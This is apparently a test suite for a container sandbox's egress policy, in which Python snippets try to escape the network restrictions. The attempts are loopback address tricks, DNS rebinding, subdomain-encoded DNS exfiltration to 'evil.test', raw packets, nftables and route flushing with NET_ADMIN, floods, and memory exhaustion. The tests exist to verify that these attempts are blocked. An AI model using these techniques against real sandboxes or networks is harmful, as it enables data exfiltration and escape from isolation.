/** Ways around an egress policy. */
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { type AddressInfo, createServer, type Socket } from 'node:net'
import { networkInterfaces } from 'node:os'
import { Container, type EgressEvent, type EgressOption, type RunOptions, run } from '../../lib/index.js'
import { attack, connectAbstract, hostImage, python } from '../support/attack.js'
import { startNameServer, type TestNameServer } from '../support/name-server.js'
import { testIf } from '../support/needs.js'
import { startServer, type TestServer } from '../support/tcp-server.js'

/** `dial(host, port)`: what the other side says, or the error in letters. */
const DIAL = `
import socket
patience = 8
def dial(host, port, family=0):
    try:
        with socket.socket(family or (socket.AF_INET6 if ":" in host else socket.AF_INET)) as s:
            s.settimeout(patience)
            s.connect((host, port))
            return s.recv(100).decode() or "nothing"
    except socket.gaierror: return "no name"
    except socket.timeout: return "timeout"
    except OSError as error: return errno.errorcode[error.errno]
def datagram(host, port, data=b"x"):
    try:
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(data, (host, port))
            return s.recv(600)
    except socket.timeout: return "timeout"
    except OSError as error: return errno.errorcode[error.errno]
def query(name, kind=1, server="127.0.0.11", port=53):
    packed = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    got = datagram(server, port, b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + packed + b"\\0" + kind.to_bytes(2, "big") + b"\\0\\1")
    return got if isinstance(got, str) else "code %d answers %d" % (got[3] & 15, got[7])
`
const REFUSED = /^(ECONNREFUSED|ECONNRESET)$/
/** As wide as a list can be: all names, and the whole internet. */
const WIDEST: EgressOption = { allow: ['*', '0.0.0.0/0', '::/0'] }
/** What no policy keeps in. */
const OPEN: RunOptions = { network: 'host' }

const ownAddress = Object.values(networkInterfaces())
  .flatMap((list) => list ?? [])
  .find(({ internal, family }) => !internal && family === 'IPv4')?.address

describe('an egress policy', () => {
  let secret: TestServer
  let names: TestNameServer
  let told: readonly string[] = []
  beforeAll(async () => {
    secret = await startServer()
    names = await startNameServer((name) => (name.endsWith('.nothing.test') ? undefined : told))
  })
  afterAll(() => {
    secret.stop()
    names.stop()
  })
  beforeEach(() => {
    secret.count = 0
    names.asked.length = 0
  })
  const dialled = async (places: Array<[string, number]>, options: RunOptions) =>
    attack(`${DIAL}\nfor host, port in ${JSON.stringify(places)}: print(dial(host, port))`, options)

  test('lets nobody to services on the host’s loopback, by no spelling of the address', async () => {
    const { port } = secret
    const spellings = [
      '127.0.0.1',
      '127.8.9.10',
      '::1',
      '::ffff:127.0.0.1',
      '0.0.0.0',
      '::',
      '198.18.0.1',
      '127.0.0.11',
    ]
    const others = ['198.18.77.77', 'fd1c:a155:e::4d', '64:ff9b::7f00:1', '2002:7f00:1::', '::127.0.0.1']
    const places = [...spellings, ...others].map((host): [string, number] => [host, port])
    for (const policy of [WIDEST, () => 'allow' as const]) {
      const answers = await dialled(places, { egress: policy, timeout: 60_000 })
      for (const [i, answer] of answers.entries())
        expect([places[i], answer]).toEqual([places[i], expect.stringMatching(/^E/)])
    }
    expect(secret.count).toBe(0)
    expect(await dialled([['127.0.0.1', port]], OPEN)).toEqual(['here'])
    // A rule for the address alone is for who dials that from the host; the container's own loopback stays its own.
    expect(await dialled([['127.0.0.1', port]], { egress: { allow: ['127.0.0.1'] } })).toEqual(['ECONNREFUSED'])
  })

  testIf(!ownAddress && 'no address but loopback')(
    'lets nobody to the host itself unless a rule names that address',
    async () => {
      const open = await startServer(undefined, '0.0.0.0')
      try {
        const own: Array<[string, number]> = [[ownAddress as string, open.port]]
        const around = `${(ownAddress as string).replace(/\.\d+$/, '.0')}/24`
        for (const policy of [WIDEST, () => 'allow' as const, { allow: [around] }, { allow: [`${ownAddress}:1-1024`] }])
          expect((await dialled(own, { egress: policy }))[0]).toMatch(REFUSED)
        expect(open.count).toBe(0)
        expect(await dialled(own, { egress: { allow: [`${ownAddress}:${open.port}`] } })).toEqual(['here'])
      } finally {
        open.stop()
      }
    },
  )

  test('is not deceived by names that lead inwards (rebinding)', async () => {
    const { port } = secret
    const egress: EgressOption = { allow: [`rebind.test:${port}`] }
    const inwards = ['127.0.0.1', '169.254.169.254', '10.0.0.1', '0.0.0.0', '168.63.129.16', '198.18.0.1']
    const inwards6 = ['::1', '::ffff:7f00:1', '::7f00:1', '64:ff9b::7f00:1', 'fd00:ec2::254', 'fe80::1']
    for (const address of [...inwards, ...inwards6, ...(ownAddress ? [ownAddress] : [])]) {
      told = [address]
      const [answer] = await dialled([['rebind.test', port]], { egress, dns: [names.address] })
      expect([address, answer]).toEqual([address, expect.stringMatching(REFUSED)])
    }
    expect(secret.count).toBe(0)
    // A policy that does not look where a name leads.
    told = ['127.0.0.1']
    const naive: EgressOption = ({ protocol, port }) =>
      protocol === 'dns' ? 'allow' : { rewrite: `127.0.0.1:${port}` }
    expect(await dialled([['rebind.test', port]], { egress: naive, dns: [names.address] })).toEqual(['here'])
    // And a rule that names the address.
    const named: EgressOption = { allow: ['rebind.test', `127.0.0.1:${port}`] }
    expect(await dialled([['rebind.test', port]], { egress: named, dns: [names.address] })).toEqual(['here'])
  })

  test('gives no answers that carry anything, and no questions that carry anything out', async () => {
    told = ['93.184.216.34']
    const load = randomBytes(20).toString('hex')
    const kinds = `${DIAL}
for name in ("${load}.evil.test", "${load}.allowed.test", "${load}.x.evil.test"):
    for kind in (1, 28, 16, 10, 5, 15, 65, 255, 12): print(query(name, kind))
print(query("allowed.test", 16), query("allowed.test", 10), query("allowed.test", 65), query("allowed.test", 1), sep=", ")`
    const answers = await attack(kinds, { egress: { allow: ['allowed.test:443'] }, dns: [names.address] })
    expect(new Set(answers.slice(0, 27))).toEqual(new Set(['code 3 answers 0']))
    expect(answers[27]).toBe('code 0 answers 0, code 0 answers 0, code 0 answers 0, code 0 answers 1')
    expect([...new Set(names.asked)].sort()).toEqual(['A allowed.test', 'AAAA allowed.test'])
    // Who allows all names below one lets all of them out.
    const [open] = await attack(`${DIAL}\nprint(query("${load}.evil.test"))`, {
      egress: { allow: ['*.evil.test'] },
      dns: [names.address],
    })
    expect([open, names.asked.some((each) => each.includes(load))]).toEqual(['code 0 answers 1', true])
  })

  test('takes large letters for small ones, and no other spelling for a name', async () => {
    told = ['93.184.216.34']
    const egress: EgressOption = { allow: ['allowed.test'] }
    const spellings = `${DIAL}
for name in ("ALLOWED.test", "allowed.test.evil.test", "xallowed.test", "allowed.tes", "allowed\\u00e9.test"): print(query(name))`
    const answers = await attack(spellings, { egress, dns: [names.address] })
    expect(answers).toEqual(['code 0 answers 1', ...Array<string>(4).fill('code 3 answers 0')])
  })

  test('lets no questions to other name servers, by UDP or TCP', async () => {
    const direct = `${DIAL}
for server in ("9.9.9.9", "${ownAddress ?? '192.0.2.1'}", "2620:fe::fe"):
    print(query("secret.test", 16, server), dial(server, 53), dial(server, 853), sep=" ")`
    for (const answer of await attack(direct, { egress: { allow: ['*'] } }))
      expect(answer).toMatch(/^EPERM ECONN(REFUSED|RESET) ECONN(REFUSED|RESET)$/)
    // Where there is no policy the host's servers are reached.
    const [address, port] = names.address.split(':')
    told = ['192.0.2.9']
    expect(await attack(`${DIAL}\nprint(query("secret.test", 1, "${address}", ${port}))`, OPEN)).toEqual([
      'code 0 answers 1',
    ])
  })

  test('lets out no datagrams, QUIC among them, and nothing by ICMP', async () => {
    const { createSocket } = await import('node:dgram')
    const target = createSocket('udp4')
    target.on('message', (_, from) => target.send('got it', from.port, from.address))
    await new Promise<void>((resolve) => target.bind(0, ownAddress ?? '127.0.0.1', resolve))
    const { address, port } = target.address()
    const datagrams = `${DIAL}
print(datagram("${address}", ${port}))
print(datagram("8.8.8.8", 443))
print(datagram("2001:4860:4860::8888", 443))
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
    s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("${address}", 0)); print("sent")
except OSError as error: print(errno.errorcode[error.errno])`
    try {
      const answers = await attack(datagrams, { egress: WIDEST })
      const here = ownAddress ? 'EPERM' : 'ECONNREFUSED'
      expect([answers[0] === here || answers[0] === 'timeout', answers.slice(1, 3)]).toEqual([true, ['EPERM', 'EPERM']])
      if (ownAddress) expect(answers[3]).toBe('EPERM')
      expect((await attack(datagrams, OPEN))[0]).toBe("b'got it'")
    } finally {
      target.close()
    }
  })

  test('is in a namespace with a loopback and nothing else, also for who may make raw packets', async () => {
    const links = `print(sorted(name for _, name in __import__("socket").if_nameindex()))
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("lo", 0))
print(s.send(b"\\0" * 12 + b"\\x08\\0" + bytes(60)))`
    expect(await attack(links, { egress: WIDEST })).toEqual(["['lo']", '74'])
  })

  test('holds against the root of the namespace, who removes its rules and makes ways and devices', async () => {
    const { port } = secret
    const places = `for host in ("127.0.0.1", "${ownAddress ?? '192.0.2.1'}", "93.184.216.34"): print(dial(host, ${port}))`
    const breakOut = `${DIAL}
import subprocess
patience = 1
def sh(command): return subprocess.run(command, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode
ours = [int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/tcp").readlines()[1:] if line.split()[3] == "0A"]
for listener in ours: print("ours", dial("127.0.0.1", listener), dial("127.0.0.11", listener))
print("flushed", sh("nft flush ruleset"), sh("ip route flush table local; ip route flush table main; ip address flush dev lo"))
sh("ip link set lo down; ip link set lo up; ip address add 127.0.0.1/8 dev lo; ip route add default dev lo")
sh("ip link add d0 type dummy; ip address add 10.1.1.1/24 dev d0; ip link set d0 up; ip route replace default via 10.1.1.2 dev d0")
sh("ip link add v0 type veth peer name v1 netns 1; ip link set v0 up")
print(sorted(name for _, name in socket.if_nameindex() if name in ("eth0", "wlan0")))
${places}
for listener in ours:
    sh("nft add table ip t; nft add chain ip t c '{ type nat hook output priority -100; }'; nft flush chain ip t c")
    sh("nft add rule ip t c ip daddr 93.184.216.34 dnat to 127.0.0.1:%d" % listener)
    print("ours", dial("93.184.216.34", ${port}))`
    const security = { capabilities: { add: ['NET_ADMIN'] } }
    const answers = await attack(breakOut, { egress: { allow: ['*'] }, security, timeout: 120_000 })
    expect(answers.filter((line) => line.startsWith('flushed'))).toEqual(['flushed 0 0'])
    expect(answers).toContain('[]')
    expect(answers.filter((line) => /here|got/.test(line))).toEqual([])
    expect(secret.count).toBe(0)
    expect((await attack(DIAL + places, OPEN))[0]).toBe('here')
  }, 150_000)

  test('is not asked without end: floods of names and connections are bounded before they reach us', async () => {
    const flood = async (before: string, options: RunOptions) => {
      let [questions, connections] = [0, 0]
      const egress: EgressOption = ({ protocol }) => {
        if (protocol === 'dns') questions++
        else connections++
        return 'deny'
      }
      const code = `${DIAL}
import subprocess, time
${before}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
end, n = time.time() + 3, 0
while time.time() < end:
    n += 1
    try: s.sendto(b"\\1\\2\\1\\0\\0\\1" + bytes(6) + b"\\x08%08d\\4test\\0\\0\\1\\0\\1" % n, ("127.0.0.11", 53))
    except OSError: pass
    if n % 16 == 0:
        t = socket.socket(); t.setblocking(False); t.connect_ex(("93.184.216.34", 80)); t.close()
print(n)`
      await attack(code, { egress, ...options })
      return [questions, connections] as const
    }
    const [questions, connections] = await flood('', {})
    // Two thousand at first, and a thousand a second.
    expect(questions).toBeLessThan(6500)
    expect(connections).toBeLessThan(6500)
    const [unbounded] = await flood('assert subprocess.call(["nft", "flush chain inet caisson_egress leaving"]) == 0', {
      security: { capabilities: { add: ['NET_ADMIN'] } },
    })
    expect([questions > 100, unbounded > questions]).toEqual([true, true])
  })

  test('leaves no abstract socket of the host in reach', async () => {
    const name = `caisson-egress-${randomBytes(8).toString('hex')}`
    const server = createServer((socket) => socket.on('error', () => undefined)).listen(`\0${name}`)
    const connect = connectAbstract(name)
    try {
      expect(await attack(connect, { egress: WIDEST })).toEqual(['ECONNREFUSED'])
      expect(await attack(connect, { ...OPEN, security: { landlock: 'off' } })).toEqual(['done'])
    } finally {
      server.close()
    }
  })

  test('that fails is a denial: it throws, rejects, never answers, or says what means nothing', async () => {
    const { port } = secret
    const policies: Array<[EgressOption, EgressEvent['reason']]> = [
      [
        () => {
          throw new Error('broken')
        },
        'error',
      ],
      [() => Promise.reject(new Error('broken')), 'error'],
      [() => new Promise(() => undefined), 'timeout'],
      [() => undefined as never, 'verdict'],
      [() => 'Allow' as never, 'verdict'],
      [() => 1 as never, 'verdict'],
      [() => ({ rewrite: '' }), 'verdict'],
      [() => ({ rewrite: 'a b:80' }), 'verdict'],
      [() => ({ rewrite: '0x7f.1:80' }), 'verdict'],
      [() => ({ rewrite: { host: '127.0.0.1', port: 0 } }), 'verdict'],
      [
        () => ({
          get rewrite(): string {
            throw new Error('trap')
          },
        }),
        'error',
      ],
    ]
    await Promise.all(
      policies.map(async ([egress, reason]) => {
        const command = python(`${DIAL}\nprint(dial("192.0.2.77", ${port}))`)
        await using container = await Container.create(await hostImage(), { egress, command })
        const events: EgressEvent[] = []
        container.on('egress', (event) => events.push(event))
        await container.start()
        const { stdout } = await container.wait()
        expect(stdout.trim()).toMatch(REFUSED)
        expect(events.map((event) => [event.verdict, event.reason])).toEqual([['deny', reason]])
      }),
    )
    expect(secret.count).toBe(0)
    const answered: EgressOption = () => ({ rewrite: `127.0.0.1:${port}` })
    expect(await dialled([['192.0.2.77', port]], { egress: answered })).toEqual(['here'])
  })

  test('bytes that nobody reads, over many connections, do not fill the memory of the machine', async () => {
    const unread = new Set<Socket>()
    const sink = createServer({ pauseOnConnect: true }, (socket) => {
      socket.on('error', () => undefined)
      unread.add(socket)
    })
    await once(sink.listen(0, '127.0.0.1'), 'listening')
    const to = `127.0.0.1:${(sink.address() as AddressInfo).port}`
    /** Megabytes that a program with 64 MB gets rid of. */
    const sent = async (connections: number) => {
      const flood = `
import socket, time
kept, sent, last = [], 0, time.time()
for _ in range(${connections}):
    kept.append(socket.create_connection(("192.0.2.1", 80), 10))
    kept[-1].setblocking(False)
while time.time() - last < 1:
    for each in kept:
        try:
            sent += each.send(bytes(65536))
            last = time.time()
        except BlockingIOError: pass
    time.sleep(0.01)
print(sent / 1e6)`
      const options = { limits: { memory: '64m' }, egress: () => ({ rewrite: to }), timeout: 60_000 }
      const [bytes] = await attack(flood, options)
      for (const socket of unread) socket.destroy()
      unread.clear()
      return Number(bytes)
    }
    // As many as have all that the kernel gives; eight times as many do not have eight times as much.
    const few = await sent(16)
    expect(await sent(128)).toBeLessThan(4 * few)
    sink.close()
  }, 180_000)

  test('is that of programs which are executed later as well', async () => {
    const { port } = secret
    const code = python(`${DIAL}\nprint(dial("127.0.0.1", ${port}), datagram("8.8.8.8", 53))`)
    const image = await hostImage()
    await using container = await Container.create(image, { egress: { allow: ['*'] }, command: ['sleep', '100'] })
    await container.start()
    expect((await container.exec(code)).stdout).toBe('ECONNREFUSED EPERM\n')
    expect((await run(image, code, OPEN)).stdout).toMatch(/^here /)
  })
})
